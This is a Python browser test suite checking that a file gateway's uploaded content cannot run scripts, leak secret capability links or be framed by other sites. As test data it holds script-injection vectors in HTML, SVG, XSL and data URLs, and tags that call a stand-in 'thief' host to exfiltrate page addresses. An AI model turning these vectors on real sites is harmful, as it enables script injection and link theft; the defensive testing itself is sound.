"""What a stranger's file can do in a browser: be shown, and nothing else."""

from __future__ import annotations

import os
import tempfile
from base64 import b64decode
from collections.abc import Callable
from contextlib import ExitStack
from functools import cache
from pathlib import Path
from urllib.parse import quote, urlsplit

from twisted.trial.unittest import SynchronousTestCase

from tests.hostile.thief import Thief
from tests.integration.browser import Browser, missing
from tests.integration.helper_line import Line
from tests.integration.tus_client import close_room, content, room
from tests.processes import ask, curl, eventually
from truckee.codec.caps import LiteralCap

FILM = Path(__file__).with_name("film.webm")
GO = "page.errors.length = 0; await page.goto(args[0])"
# What became of a page whose script would have said that it ran.
LOOK = "return page.evaluate(() => [self.ran ?? document.title, self.origin])"
WORKERS = """return page.evaluate(async () =>
    (await navigator.serviceWorker.getRegistrations()).length)"""
RUN = "self.ran='it ran';document.title='it ran'"


@cache
def visitor() -> tuple[Browser, Callable[[], None]]:
    """Return a browser, started once, and what ends it."""
    with ExitStack() as cleanup:
        profile = cleanup.enter_context(
            tempfile.TemporaryDirectory(ignore_cleanup_errors=True)
        )
        browser = cleanup.enter_context(Browser(Path(profile)))
        return browser, cleanup.pop_all().close
    raise AssertionError


def tearDownModule() -> None:
    """End the node and the browser."""
    if visitor.cache_info().currsize:
        visitor()[1]()
    close_room()


class PageCase(SynchronousTestCase):
    skip = missing(browser=True)

    def setUp(self) -> None:
        # TRUCKEE_URL: another gateway, to see what became of an attack there.
        self.url = os.environ.get("TRUCKEE_URL") or room()[0].url
        self.browser = visitor()[0]
        thief = Thief()
        self.thief = thief.__enter__()
        self.addCleanup(thief.__exit__)

    def put(self, data: bytes) -> str:
        """Return the cap of *data*, which is longer than a cap can hold."""
        return curl("-T", "-", f"{self.url}uri", data=data.ljust(60)).decode()

    def go(self, path: str) -> None:
        """Show an address of the gateway."""
        self.browser.do(GO, f"{self.url}{path}")


class ThiefTests(PageCase):
    def test_caps_opened_later(self) -> None:
        """A page that the thief chose takes no handle and sees no file opened later."""
        self.go("upload")
        remember = """await page.evaluate(() => localStorage.setItem("truckee-upload:x",
            '{"url": "/tus/SECRET", "name": "a", "size": 9}'))"""
        self.browser.do(remember)
        self.browser.do(GO, self.thief.trap(self.url))
        where = "return page.url()"
        eventually(lambda: "/uri/" in self.browser.do(where))
        self.browser.do("await page.waitForLoadState('load')")
        if "TRUCKEE_URL" in os.environ:
            eventually(lambda: "done" in self.thief.loot)
        cap = self.put(b"a secret")
        self.go(f"uri/{cap}")
        self.go(f"file/{cap}/@@named=/a.txt")
        workers = "return context.serviceWorkers().length"
        self.assertEqual((self.browser.do(workers), self.thief.loot), (0, []))
        # The page itself looks for the upload, and forgets it.
        self.go("upload")
        kept = "return page.evaluate(() => localStorage.length)"
        eventually(lambda: self.browser.do(kept) == 0)

    def test_workers_of_old(self) -> None:
        """A worker that a file registered before files were sandboxed is removed."""
        line = Line(self.thief.port)
        here = f"http://127.0.0.1:{line.__enter__().port}"
        self.addCleanup(line.__exit__)
        self.browser.do(GO, f"{here}/page?hello")
        self.browser.do(
            "await page.evaluate(() => navigator.serviceWorker.register('/uri/w.js'))"
        )
        self.assertEqual(self.browser.do(WORKERS), 1)
        line.target = urlsplit(self.url).port or 80
        self.browser.do(GO, f"{here}/")
        eventually(lambda: self.browser.do(WORKERS) == 0)

    def test_no_script_runs(self) -> None:
        """Nothing that a browser shows as a page runs a script, whatever it is called."""
        html = f"<script>{RUN}</script>"
        svg = f'<svg xmlns="http://www.w3.org/2000/svg">{html}</svg>'
        xhtml = f'<html xmlns="http://www.w3.org/1999/xhtml"><head>{html}</head></html>'
        sheet = (
            '<?xml-stylesheet type="text/xsl" href="#s"?><x><xsl:stylesheet id="s" '
            'xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0">'
            f'<xsl:template match="/"><html>{html}</html></xsl:template>'
            "</xsl:stylesheet></x>"
        )
        mixed = f"--x\r\nContent-Type: text/html\r\n\r\n{html}\r\n--x--"
        for text, name in (
            *((html, f"a.{end}") for end in ("html", "htm", "", "txt", "png", "pdf.html")),
            (html, "data:text/html,x"),
            (html, "data:text/html;charset=utf-7,+ADw-"),
            (svg, "a.svg"),
            (svg, "data:image/svg+xml,x"),
            (xhtml, "a.xhtml"),
            *((sheet, f"a.{end}") for end in ("xml", "xsl", "rss")),
            (mixed, "data:multipart/x-mixed-replace;boundary=x,"),
        ):
            cap = self.put(text.encode())
            self.go(f"uri/{cap}?filename={quote(name)}")
            ran, origin = self.browser.do(LOOK)
            self.assertNotEqual(ran, "it ran", name)
            self.assertEqual(origin, "null", name)

    def test_nothing_is_loaded(self) -> None:
        """A page tells nobody that it was opened, nor where it is: that is a cap."""
        page = "".join(
            f"<{tag}={self.thief.url}/loot?{tag.split()[0]} referrerpolicy=unsafe-url>"
            for tag in (
                *("img src", "link rel=stylesheet href", "video src", "audio src"),
                *("iframe src", "embed src", "object data", "script src"),
                "link rel=prefetch href",
            )
        )
        page += f"<style>body{{background:url({self.thief.url}/loot?css)}}</style>"
        page += f'<meta http-equiv="refresh" content="0;url={self.thief.url}/loot?refresh">'
        cap = self.put(page.encode())
        self.go(f"uri/{cap}?filename=a.html")
        self.assertIn(cap, self.browser.do("return page.url()"))
        self.assertEqual(self.thief.loot, [])

    def test_other_sites(self) -> None:
        """A page elsewhere frames, embeds, fetches and scripts nothing of the gateway."""
        cap = self.put(b"self.ran='it ran'")
        targets = [f"uri/{cap}", f"uri/{cap}?filename=a.js", "status/events", "upload", ""]
        page = "<script>seen=[]</script>"
        for target in targets:
            url = f"{self.url}{target}"
            page += "".join(
                f'<{tag}="{url}" onload="seen.push(this.tagName)"></{tag.split()[0]}>'
                for tag in ("img src", "script src", "link rel=stylesheet href")
            )
            page += f'<iframe src="{url}"></iframe>'
        self.browser.do(GO, self.thief.shows(page))
        framed = "return page.frames().slice(1).map((f) => f.url().split(':')[0])"
        self.assertLessEqual(set(self.browser.do(framed)), {"", "chrome-error"})
        seen = "return page.evaluate(() => [self.ran ?? '', self.seen])"
        self.assertEqual(self.browser.do(seen), ["", []])
        fetched = """return page.evaluate((urls) => Promise.all(urls.map((url) =>
            fetch(url, {mode: "no-cors"}).then(() => url, () => ""))), args)"""
        urls = [f"{self.url}{target}" for target in targets]
        self.assertEqual(set(self.browser.do(fetched, *urls)), {""})

    def test_window(self) -> None:
        """A page elsewhere that opens ours loses hold of it, and ours of the page."""
        self.browser.do(GO, self.thief.shows("<title>thief</title>"))
        opened = """
            const [popup] = await Promise.all([page.waitForEvent("popup"),
              page.evaluate((url) => { self.w = open(url); }, args[0])]);
            await popup.waitForLoadState();
            const has = await popup.evaluate(() => self.opener !== null);
            await popup.close();
            return [has, await page.evaluate(() => self.w.closed)];
        """
        cap = LiteralCap(b"<p>hello")
        for target in ("upload", "", f"uri/{cap}?filename=a.html"):
            self.assertEqual(
                self.browser.do(opened, f"{self.url}{target}"), [False, True], target
            )


class OwnPagesTests(PageCase):
    def test_quiet(self) -> None:
        """The gateway's own pages are as they should, and the browser is content."""
        for path, title in (
            *(("", "truckee"), ("upload", "Upload files"), ("status", "Status")),
            *(("helper_status", "No helper"), ("storage", None)),
        ):
            self.go(path)
            self.browser.do("await page.waitForLoadState('load')")
            self.assertEqual(self.browser.do("return page.errors"), [], path)
            if title is not None:
                self.assertEqual(self.browser.do("return page.title()"), title)
            style = "return page.evaluate(() => getComputedStyle(document.body).margin)"
            self.assertEqual(self.browser.do(style), "0px", path)

    def test_forms(self) -> None:
        """Its forms are forms of ours: a file is uploaded, and read by its cap."""
        self.browser.do("await page.route('**/upload.js', (route) => route.abort())")
        self.go("")
        self.browser.do(
            "await page.setInputFiles('input[type=file]', {name: 'a.txt', "
            "mimeType: 'text/plain', buffer: Buffer.from('hello')}); "
            "const pressed = page.waitForNavigation(); "
            "await page.click('button >> text=Upload'); await pressed"
        )
        text = "return page.evaluate(() => document.body.innerText)"
        self.assertIn(str(LiteralCap(b"hello")), self.browser.do(text))
        self.browser.do(
            "const pressed = page.waitForNavigation(); "
            "await page.click('text=Open the file'); await pressed"
        )
        self.assertEqual(self.browser.do(text), "hello")
        self.browser.do("await page.unroute('**/upload.js')")
        self.go("")
        self.browser.do(
            "await page.fill('input[name=uri]', args[0]); "
            "const pressed = page.waitForNavigation(); "
            "await page.click('button >> text=Open'); await pressed",
            str(LiteralCap(b"hello")),
        )
        self.assertEqual(self.browser.do(text), "hello")


class ShownTests(PageCase):
    def test_pictures(self) -> None:
        """A picture is shown."""
        svg = '<svg xmlns="http://www.w3.org/2000/svg" width="70" height="70"></svg>'
        self.go(f"uri/{self.put(svg.encode())}?filename=a.svg")
        size = "return page.evaluate(() => document.documentElement.width.baseVal.value)"
        self.assertEqual(self.browser.do(size), 70)
        draw = """return page.evaluate(() => {
            const c = document.createElement("canvas"); c.width = 70;
            return c.toDataURL("image/png").split(",")[1]; })"""
        self.go("upload")
        picture = b64decode(self.browser.do(draw))
        self.go(f"uri/{self.put(picture)}?filename=a.png")
        size = "return page.evaluate(() => document.images[0].naturalWidth)"
        self.assertEqual(self.browser.do(size), 70)

    def test_films(self) -> None:
        """A film is played in its own page, and from anywhere in it."""
        cap = self.put(FILM.read_bytes())
        self.go(f"uri/{cap}?filename=a.webm")
        self.check_plays()

    def test_sounds(self) -> None:
        """A sound too."""
        rate, seconds = 8000, 12
        size = rate * seconds
        head = b"RIFF%bWAVEfmt %b%b%b%b%b%b%bdata%b"
        number = lambda value, count=4: value.to_bytes(count, "little")  # noqa: E731
        head %= (
            *(number(36 + size), number(16), number(1, 2), number(1, 2), number(rate)),
            *(number(rate), number(1, 2), number(8, 2), number(size)),
        )
        cap = self.put(head + content(size))
        self.go(f"uri/{cap}?filename=a.wav")
        self.check_plays()

    def check_plays(self) -> None:
        """What is shown is 12 seconds long, and goes to any of them."""
        facts = """return page.evaluate(() => { const v = document.querySelector("video");
            return [Math.round(v.duration), v.readyState, v.currentTime]})"""
        eventually(lambda: self.browser.do(facts)[1] >= 2)
        self.browser.do(
            "await page.evaluate(() => {"
            "const v = document.querySelector('video'); v.pause(); v.currentTime = 9.5 })"
        )
        eventually(lambda: self.browser.do(facts)[:3] == [12, 4, 9.5])
        self.assertEqual(self.browser.do("return page.errors"), [])

    def test_documents(self) -> None:
        """A PDF is shown in this browser, and saved in those that may not show it."""
        cap = self.put(PDF)
        url = f"{self.url}uri/{cap}?filename=a.pdf"
        self.browser.do(GO, url)
        viewer = "return page.frames().map((f) => f.url().split(':')[0])"
        eventually(lambda: "chrome-extension" in self.browser.do(viewer))
        for agent in (
            "Mozilla/5.0 Gecko/20100101 Firefox/145.0",
            "Mozilla/5.0 Chrome/99.0",
        ):
            told = ask("-I", "-A", agent, url).headers
            self.assertTrue(told["content-disposition"].startswith("attachment"), agent)
        self.assertNotIn("content-disposition", ask("-I", url).headers)


PDF = b"""%PDF-1.4
1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj
2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>endobj
trailer<</Root 1 0 R>>
"""
